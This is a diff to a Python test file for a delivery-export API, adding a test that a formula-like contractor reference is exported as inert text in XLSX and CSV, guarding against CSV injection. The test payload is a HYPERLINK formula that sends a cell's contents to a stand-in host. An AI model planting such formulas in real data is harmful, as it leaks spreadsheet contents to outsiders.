@@ -1,5 +1,6 @@
 """Purchased services end to end through the API, on both stores."""
 
+import csv
 import hashlib
 import io
 from dataclasses import replace
@@ -7,7 +8,7 @@ from datetime import date, datetime, timedelta, timezone
 from uuid import UUID, uuid4
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from api.backend import open_backend
 from api.imports import read_rows
@@ -284,6 +285,18 @@ class TestDeliveryList:
         assert exported.text.splitlines()[0].lstrip("\ufeff").startswith("reference,id,case_id")
         bad = api.client.get(f"{base}/deliveries", params={"month": "2026-13"}, headers=market["contractor"])
         assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "month"
+
+    def test_a_reference_that_reads_as_a_formula_is_exported_as_text(self, api, desk, market):
+        """A reviewer opening the export must not run what a contractor wrote (CSV injection)."""
+        reference = '=HYPERLINK("http://x.example/?"&C2,"open")'
+        last = deliver(api, market, referred_case(desk, market)["id"], reference)
+        url, params = f"/v1/contracts/{market['contract']['id']}/deliveries", {"min_position": last.headers["x-position"]}
+        book = api.client.get(url, params={**params, "format": "xlsx"}, headers=market["supervisor"])
+        cell = load_workbook(io.BytesIO(book.content)).active["A2"]
+        assert (cell.value, cell.data_type) == (reference, "s")
+        text = api.client.get(url, params={**params, "format": "csv"}, headers=market["supervisor"]).text
+        assert next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[0] == "reference"
+        assert list(csv.reader(io.StringIO(text)))[1][0] == "'" + reference
 
     def test_staff_see_only_the_deliveries_of_cases_in_their_scope(self, api, desk, market):
         case = referred_case(desk, market)  # in Licheng (350502), on a contract for the whole district
